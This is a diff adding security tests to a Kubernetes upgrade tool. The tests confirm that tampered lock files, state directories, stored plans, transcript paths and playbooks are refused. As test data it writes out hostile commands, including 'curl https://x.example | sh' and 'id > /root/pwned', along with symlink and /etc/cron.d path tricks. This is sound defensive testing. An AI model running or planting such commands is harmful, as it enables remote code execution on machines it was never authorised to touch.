@@ -208,3 +208,142 @@ def test_commands_that_need_no_cluster_do_not_load_its_clients(args: tuple[str, 
 def test_version_loads_no_terminal_renderer() -> None:
     rc, mods = _loaded_by("version")
     assert rc == 0 and "rich" not in mods
+
+
+# --------------------------------------------------------------------------- hostile state files
+
+
+def _recorded_run(cluster: Cluster, playbooks: Path | None = None) -> Path:
+    """An unfinished run of the inventory's cluster as apply records it (state file, stored
+    plan with its digest, input digests), written through the library. Returns the state path."""
+    from upgrader import state as st
+    from upgrader.apply import run_fingerprint, run_inputs
+    from upgrader.core.model import PlanEntry, Step
+    from upgrader.core.versions import KubeVersion
+    from upgrader.execute import stored
+    from upgrader.inventory import load_inventory
+    from upgrader.planning import PlanRequest
+
+    inv = load_inventory(cluster.inventory)
+    req = PlanRequest(target=KubeVersion.parse("v1.28.4"), playbooks=playbooks)
+    step = Step(
+        id="v1.28.4/w-1/worker/a",
+        kind="shell",
+        node="w-1",
+        hop="v1.28.4",
+        phase="worker",
+        name="a",
+        description="a",
+        command="true",
+        timeout=10.0,
+    )
+    entry = PlanEntry(node="w-1", role="worker", phase="worker", hop="v1.28.4", steps=(step,))
+    path = cluster.state_dir / "quiet.state.json"
+    sp = stored.StoredPlan("r1", "v1.27.8", "v1.28.4", ("v1.28.4",), "per-hop", (entry,))
+    digest = stored.save(stored.plan_path(path), sp)
+    run = st.new_run(
+        cluster="quiet",
+        inventory=cluster.inventory,
+        fingerprint=run_fingerprint(inv, req),
+        target="v1.28.4",
+        hops=["v1.28.4"],
+        strategy="per-hop",
+        steps=[step],
+        run_id="r1",
+        plan_digest=digest,
+        inputs=run_inputs(inv, req),
+        transcripts=st.default_transcripts_dir(path, "r1"),
+    )
+    st.save(path, run)
+    return path
+
+
+def test_a_symlinked_lock_file_is_refused_and_its_target_kept(
+    cluster: Cluster, tmp_path: Path
+) -> None:
+    """Attack: `<state>.lock` planted as a symlink to another file; `status` used to truncate
+    the target. Now: exit 2, one line naming the lock, the target intact, nothing contacted."""
+    victim = tmp_path / "victim"
+    victim.write_text("precious\n")
+    cluster.state_dir.mkdir(mode=0o700)
+    lock = cluster.state_dir / "quiet.state.json.lock"
+    lock.symlink_to(victim)
+    for args in (("status",), ("apply", "--to", "v1.28.4", "--yes")):
+        r = cli(*args, "-i", str(cluster.inventory))
+        assert r.returncode == 2, r.stdout + r.stderr
+        assert _one_line_error(r) == (
+            f"error: {lock}: is a symbolic link; refusing to follow it (remove the link and retry)"
+        )
+        assert victim.read_text() == "precious\n"
+    assert cluster.contacts() == 0
+
+
+def test_a_state_directory_others_can_write_is_refused(cluster: Cluster) -> None:
+    """Attack: a state directory (e.g. a shared checkout) other users can write, holding a
+    planted state and plan. Refused before anything is read or contacted."""
+    _recorded_run(cluster)
+    cluster.state_dir.chmod(0o777)
+    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
+    assert r.returncode == 2, r.stdout + r.stderr
+    line = _one_line_error(r)
+    assert line.startswith(f"error: {cluster.state_dir}: the state directory is writable by group")
+    assert "chmod 700" in line
+    assert cluster.contacts() == 0
+
+
+def test_a_forged_stored_plan_is_refused_before_any_node_is_asked(cluster: Cluster) -> None:
+    """Attack: the stored plan rewritten with a step of the attacker's. Its digest no longer
+    matches the state's: exit 2, nothing contacted."""
+    path = _recorded_run(cluster)
+    plan = path.with_name(path.name + ".plan.json")
+    doc = json.loads(plan.read_text())
+    doc["entries"][0]["steps"][0]["command"] = "id > /root/pwned"
+    plan.write_text(json.dumps(doc))
+    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
+    assert r.returncode == 2, r.stdout + r.stderr
+    line = _one_line_error(r)
+    assert line.startswith(f"error: {plan}: stored plan does not match the digest")
+    assert cluster.contacts() == 0
+
+
+def test_a_transcripts_path_outside_the_state_dir_is_not_trusted(cluster: Cluster) -> None:
+    """Attack: the state file's `transcripts` pointed at another directory."""
+    path = _recorded_run(cluster)
+    doc = json.loads(path.read_text())
+    doc["transcripts"] = "/etc/cron.d"
+    path.write_text(json.dumps(doc))
+    r = cli("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes")
+    assert r.returncode == 2, r.stdout + r.stderr
+    line = _one_line_error(r)
+    assert "transcripts path /etc/cron.d is outside the state directory" in line
+    assert "--transcripts /etc/cron.d" in line
+    assert cluster.contacts() == 0
+
+
+def test_a_changed_playbook_names_what_changed_and_needs_a_flag(
+    cluster: Cluster, tmp_path: Path
+) -> None:
+    from upgrader.core.playbook import default_playbook_dir
+
+    pb = tmp_path / "pb"
+    pb.mkdir()
+    (pb / "default.yaml").write_text((default_playbook_dir() / "default.yaml").read_text())
+    site = {"version": 1, "phases": {"worker": {"post": [
+        {"name": "site-x", "kind": "shell", "description": "d", "command": "true"}]}}}  # fmt: skip
+    (pb / "site.yaml").write_text(yaml.safe_dump(site))
+    _recorded_run(cluster, playbooks=pb)
+    site["phases"]["worker"]["post"][0]["command"] = "curl https://x.example | sh"  # type: ignore[index]
+    (pb / "site.yaml").write_text(yaml.safe_dump(site))
+    args = ("apply", "-i", str(cluster.inventory), "--to", "v1.28.4", "--yes", "--playbooks")
+    r = cli(*args, str(pb))
+    assert r.returncode == 2, r.stdout + r.stderr
+    line = _one_line_error(r)
+    assert "changed since run r1 started: " in line
+    assert "playbook site.yaml changed; step worker.post.site-x changed;" in line
+    assert "--abandon" in line and "--accept-changes" in line
+    assert cluster.contacts() == 0
+    # with the flag the run goes on (and reaches for the nodes: the listener is no SSH server)
+    r = cli(*args, str(pb), "--accept-changes")
+    assert r.returncode in (4, 5), r.stdout + r.stderr
+    assert "resuming the run's stored steps (--accept-changes)" in r.stderr
+    assert cluster.contacts() > 0
